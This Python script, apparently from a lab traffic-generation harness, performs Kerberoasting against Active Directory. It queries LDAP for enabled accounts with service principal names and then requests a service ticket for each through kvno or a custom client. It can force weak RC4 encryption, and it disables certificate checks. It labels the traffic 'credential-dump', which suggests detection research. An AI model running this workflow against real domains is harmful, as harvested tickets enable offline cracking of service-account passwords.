"""Lists accounts with service principal names and asks for a ticket of each. The argument is JSON."""
import base64
import hashlib
import json
import re
import ssl
import subprocess
import sys
import time

import lab_ad

want = json.loads(sys.argv[1])
tls = want["security"] == "tls"
query = "(&(samAccountType=805306368)(servicePrincipalName=*)(!(sAMAccountName=krbtgt))(!(userAccountControl:1.2.840.113556.1.4.803:=2)))"
url = "%s://%s" % ("ldaps" if tls else "ldap", want["server"])
bind = "%s@%s" % (want["user"], want["realm"].lower())


def search_openldap():
    since = time.time_ns()
    done = subprocess.run(["ldapsearch", "-LLL", "-x", "-o", "ldif-wrap=no", "-H", url, "-D", bind, "-w", want["password"], "-b", want["base"], query,
                           "sAMAccountName", "servicePrincipalName", "memberOf", "pwdLastSet", "lastLogon"], capture_output=True, text=True)
    if done.returncode:
        sys.exit(done.stderr)
    lab_ad.tell("exchange", since, lab_ad.service(want["server"], 636 if tls else 389), "accounts with service principal names")
    return re.findall(r"^servicePrincipalName: (.*)$", done.stdout, re.M)


def search_ldap3():
    import ldap3
    c = ldap3.Connection(ldap3.Server(want["server"], use_ssl=tls, tls=ldap3.Tls(validate=ssl.CERT_NONE), get_info=ldap3.NONE), user=bind, password=want["password"])
    since = time.time_ns()
    if not c.bind():
        sys.exit("bind: %s" % c.result)
    lab_ad.tell("handshake", since, c.socket, "bind as " + bind)
    with lab_ad.doing("exchange", c.socket, "accounts with service principal names"):
        c.search(want["base"], query, attributes=["sAMAccountName", "servicePrincipalName", "memberOf", "pwdLastSet", "lastLogon"])
    names = [e.servicePrincipalName.value for e in c.entries]
    c.unbind()
    return [n if isinstance(n, str) else n[0] for n in names]


def roast_mit(names):
    """MIT's kvno, for each service alone."""
    kind = {"rc4": ["-e", "arcfour-hmac"], "any": []}[want["types"]]
    for name in names:
        since = time.time_ns()
        done = subprocess.run(["kvno", *kind, name], capture_output=True, text=True)
        if done.returncode:
            sys.exit(done.stderr)
        lab_ad.tell("exchange", since, lab_ad.service(want["server"], 88), "ticket of " + name)
        print("ticket " + name)
        lab_ad.pause(float(want["pause"]))


def roast_own(names):
    import lab_krb
    tgt = lab_krb.login(want["server"], want["realm"], want["user"], want["password"])
    asked = {"rc4": [lab_krb.RC4], "any": [lab_krb.AES256, lab_krb.AES128, lab_krb.RC4]}[want["types"]]
    for name in names:
        lab_ad.pause(float(want["pause"]))
        with lab_krb.connected(want["server"]) as s:
            since = time.time_ns()
            kind, secret = lab_krb.service(s, tgt, name, asked)
            lab_ad.tell("exchange", since, s, "ticket of %s, encryption type %d" % (name, kind))
            lab_ad.label(s, "credential-dump")
        print("ticket %s %s" % (name, base64.b64encode(hashlib.sha256(secret).digest()).decode()))


if want["tool"] == "mit":
    roast_mit(search_openldap())
else:
    roast_own(search_ldap3())
